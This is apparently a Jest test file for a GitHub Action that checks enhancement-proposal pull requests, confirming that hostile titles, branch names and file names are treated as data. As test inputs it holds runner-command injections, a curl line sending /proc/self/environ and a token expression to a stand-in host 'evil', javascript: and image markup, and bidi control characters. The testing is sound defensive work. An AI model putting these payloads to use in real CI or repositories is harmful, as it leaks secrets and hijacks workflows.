// Titles, headings, names of files and branches as somebody writes them who wants to be a command, a mention or markup: the bundle, as the runner
// reads it.

import { beforeEach, describe, expect, test } from '@jest/globals';
import { validate } from '../../actions/shared/generated/verdict.ts';
import type { Verdict } from '../../actions/shared/generated/verdict.types.ts';
import { comment } from '../github/deeds/issues.ts';
import { workflowRunEvent } from '../github/runner/events.ts';
import { type RunResult, runAction } from '../github/runner/run-action.ts';
import type { Pull, Repository } from '../github/state/model.ts';
import { useStandIn } from '../github/use-stand-in.ts';
import { GOOD } from '../support/proposal.ts';
import { aGoodPull, enhancements, ownComments, statusOf } from '../support/pulls.ts';
import { TRUSTED } from '../support/room.ts';

const standIn = useStandIn();
const MARKER = '<!-- enhancement-actions: template -->';
/** In parts, so that nothing takes it for a mistake in a template string. */
const EXPRESSION = ['$', '{{ github.token }}'].join('');
let repository: Repository;

beforeEach(() => {
  repository = enhancements(standIn().world);
});

/** The text as title, heading, placeholder and target of a document, and in the title and branch of its pull request. */
function writtenEverywhere(text: string): Pull {
  const line = text.replaceAll('\n', ' ');
  const document = GOOD.replace(/^# .*$/m, () => `# ${line}`)
    .replace('## Goals\n', () => `## ${line}\n\nGoals.\n\n## goals\n`)
    .replace(
      /^- This VEP targets alpha for version:.*$/m,
      () => `- This VEP targets alpha for version: ${line}`,
    );
  return aGoodPull(document).titled(line).fromBranch(`x-${line}`).in(standIn().world, repository);
}

/** A path with the text as the name of a folder and of a file. */
function named(text: string): Pull {
  const part = text.replaceAll('/', '_');
  return aGoodPull('# No proposal\n\n## Goals\n')
    .changing({ [`veps/sig-compute/${part}/${part}.md`]: `# ${part}\n` })
    .in(standIn().world, repository);
}

async function judge(pull: Pull): Promise<{ result: RunResult; verdict: Verdict; comment: string }> {
  const result = await runAction('actions/template-check', {
    github: standIn(),
    event: workflowRunEvent(standIn(), pull),
    token: standIn().token(repository, TRUSTED),
  });
  const verdict = JSON.parse(result.outputs['verdict'] ?? '') as Verdict;
  return { result, verdict, comment: ownComments(pull)[0] ?? '' };
}

/** Nothing but what we meant to say was said: to the runner, in the output, on GitHub. */
function expectOnlyWords(
  { result, verdict, comment: body }: Awaited<ReturnType<typeof judge>>,
  pull: Pull,
): void {
  const findings = verdict.results.flatMap((each) => [...each.findings, ...each.known]);
  expect(validate(verdict)).toBe(true);
  expect([result.exitCode, verdict.outcome, statusOf(pull, 'enhancements/template')?.state]).toEqual([
    0,
    'failed',
    'failure',
  ]);
  expect(result.annotations.map(({ title }) => title)).toEqual(findings.map(({ rule }) => rule));
  expect(result.annotations.map(({ file }) => file)).toEqual(findings.map(({ at }) => at?.path));
  expect(Object.keys(result.outputs)).toEqual(['verdict']);
  expect([result.masks, result.debug, result.state, result.env, result.path]).toEqual([
    [expect.any(String)],
    [],
    {},
    {},
    [],
  ]);
  // The runner stops reading commands where it is told to; then the verdict of the next step would be ours no more.
  expect(result.stdout).not.toMatch(/^\s*::(?!error |warning |notice |add-mask)/m);
  expect(ownComments(pull)).toHaveLength(1);
  for (const text of [body, result.summary]) expectLayout(text);
  const { world } = standIn();
  expect(world.mentions.filter(({ by }) => by === 'github-actions[bot]')).toEqual([]);
  const events = [...repository.issues.values()].flatMap((issue) => issue.events);
  expect(
    events.filter((event) => event.event === 'cross-referenced' && event.actor?.login !== 'bob'),
  ).toEqual([]);
}

/** Every row has its four cells, every `<details>` its end, and there is no markup but ours, apart from what a patch shows between its fences. */
function expectLayout(text: string): void {
  const [patch, , inside = ''] = /^(`{3,})diff\n([\s\S]*?\n)\1$/m.exec(text) ?? [];
  // The last line is ours; every other begins as lines of a patch do.
  expect(inside.replace(/^# end of the patch\n$(?![\s\S])/m, '')).not.toMatch(/^[^ +\-@\\]|[\p{Cf}\r]/mu);
  const markdown = patch === undefined ? text : text.replace(patch, () => '');
  const rows = markdown.split('\n').filter((line) => line.startsWith('|'));
  expect(rows.length).toBeGreaterThan(2);
  for (const row of rows) {
    expect(row.split(/(?<!\\)\|/)).toHaveLength(6);
    expect(row.replace(/\\[\\|]/g, '').split('|')).toHaveLength(6);
  }
  const bare = markdown.replace(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, '');
  expect(
    bare.match(/(?<!\\)<(?!\/?(?:details|summary|sub)>|!-- (?:enhancement-actions|sha256): [\w ]+ -->)/g),
  ).toBeNull();
  expect(bare.split('<details>')).toHaveLength(bare.split('</details>').length);
  expect(bare).not.toMatch(/(?<!\\)!\[|javascript:|[\p{Cf}\r]/iu);
}

const COMMANDS = [
  '::set-output name=verdict::pass',
  '##[set-output name=verdict]pass',
  'x ##[set-output name=verdict;]pass',
  '::add-mask::a',
  '::stop-commands::x',
  '::error file=a::injected',
  '::endgroup::',
  '%0A::set-output name=verdict::pass',
  '\u2028::set-output name=verdict::pass',
  '\u200b::set-output name=verdict::pass',
];

describe('cases 163 and 165: commands of the runner', () => {
  test.each(COMMANDS)('%j, written everywhere, is not carried out', async (text) => {
    const pull = writtenEverywhere(text);
    expectOnlyWords(await judge(pull), pull);
  });

  test('nor in a dry run, which shows everything that it would write', async () => {
    const pull = writtenEverywhere(COMMANDS.join(' '));
    const result = await runAction('actions/template-check', {
      github: standIn(),
      event: workflowRunEvent(standIn(), pull),
      token: standIn().token(repository, TRUSTED),
      inputs: { 'dry-run': 'true' },
    });
    expect([result.exitCode, Object.keys(result.outputs)]).toEqual([0, ['verdict']]);
    expect(result.log).toContain('dry run: would write {"kind":"comment"');
    expect([result.masks.length, result.debug, result.annotations.length > 0]).toEqual([1, [], true]);
  });

  test('delimiters of the output file', async () => {
    const pull = writtenEverywhere('ghadelimiter_0\nverdict=pass\nEOF');
    expectOnlyWords(await judge(pull), pull);
  });

  test('case 101: names of branches and titles are data', async () => {
    const pull = writtenEverywhere(`"; curl -d @/proc/self/environ evil #${EXPRESSION} $(id) \`id\``);
    expectOnlyWords(await judge(pull), pull);
  });
});

describe('markup and pings', () => {
  test.each([
    ['case 166: mentions', '@kubevirt/maintainers @torvalds &#64;torvalds &commat;torvalds @\u200btorvalds'],
    [
      'case 168: references',
      '#42 kubevirt/enhancements#42 GH-42 https://github.com/kubevirt/enhancements/issues/42 0123456789abcdef0123456789abcdef01234567',
    ],
    ['case 169: ends of tables, cells and lists', '| a \\| b \\\\| ` `` ``` </details> <!-- --> ~~~'],
    ['case 171: controls, and a title of 256 characters', `\u202e\u2066\u200d\ufeff${'a\u0301'.repeat(125)}`],
    ['case 174: images, links and scripts', '![](https://e.org/x.png) [x](javascript:alert(1)) <img src=x>'],
  ])('%s', async (_name, text) => {
    const pull = writtenEverywhere(text);
    expectOnlyWords(await judge(pull), pull);
  });

  test('case 170: a title and comments with our marker neither hide our comment nor become it', async () => {
    const pull = writtenEverywhere(`${MARKER} <!-- sha256: 0 -->`);
    for (const body of [MARKER, `${MARKER}\n<!-- sha256: 0 -->\nmine`, `x\n${MARKER}`]) {
      comment(standIn().world, pull, body, { by: 'mallory' });
    }
    const judged = await judge(pull);
    expectOnlyWords(judged, pull);
    expect(judged.comment.split('\n').filter((line) => line === MARKER)).toHaveLength(1);
    expect(pull.comments.filter(({ author }) => author?.login === 'mallory')).toHaveLength(3);
    standIn().forgetAsked();
    await judge(pull);
    expect(standIn().asked.filter(({ isWrite }) => isWrite)).toEqual([]);
  });
});

describe('case 157: names of files', () => {
  test.each([
    ['a line end', 'a\n::set-output name=verdict::pass'],
    ['a carriage return', 'a\r::set-output name=verdict::pass'],
    ['a command', '::stop-commands::x'],
    ['the old form of a command', '##[set-output name=verdict]pass'],
    ['%0A', '%0A::error::x%3A%2C'],
    ['properties of a command', 'a,line=1,title=b::c'],
    ['a leading hyphen', '-rf'],
    ['quotes', `'"\\`],
    ['right to left', 'vep\u202edm.exe'],
    ['decomposed letters', 'u\u0308ber'],
    ['markup', '`|](x) ![](y) @torvalds #42 <!--'],
    ['an expression', EXPRESSION],
  ])('%s', async (_name, text) => {
    const pull = named(text);
    const judged = await judge(pull);
    expectOnlyWords(judged, pull);
    const part = text.replaceAll('/', '_');
    expect(judged.verdict.results.map(({ path }) => path)).toContain(`veps/sig-compute/${part}/${part}.md`);
  });
});

test('case 172: what does not fit into a comment is counted there, and stands whole in the summary', async () => {
  const builder = Array.from({ length: 24 }, (_, index) => index).reduce(
    (pull, index) => pull.changing({ [`veps/sig-compute/${100 + index}-many/vep.md`]: '# Empty\n' }),
    aGoodPull(),
  );
  const pull = builder.in(standIn().world, repository);
  const { result, verdict, comment: body } = await judge(pull);
  const findings = verdict.results.flatMap((each) => each.findings);
  const rows = (text: string) =>
    text.split('\n').filter((line) => line.startsWith('| ❌') || line.startsWith('| ⚠️'));
  expect(body.length).toBeLessThan(65_536);
  expect(rows(result.summary)).toHaveLength(findings.length);
  const unsaid = findings.length - rows(body).length;
  expect(unsaid).toBeGreaterThan(0);
  expect(body).toContain(
    `${unsaid} further findings: see [the summary of the run](https://github.com/kubevirt/enhancements/actions/runs/4242)`,
  );
});
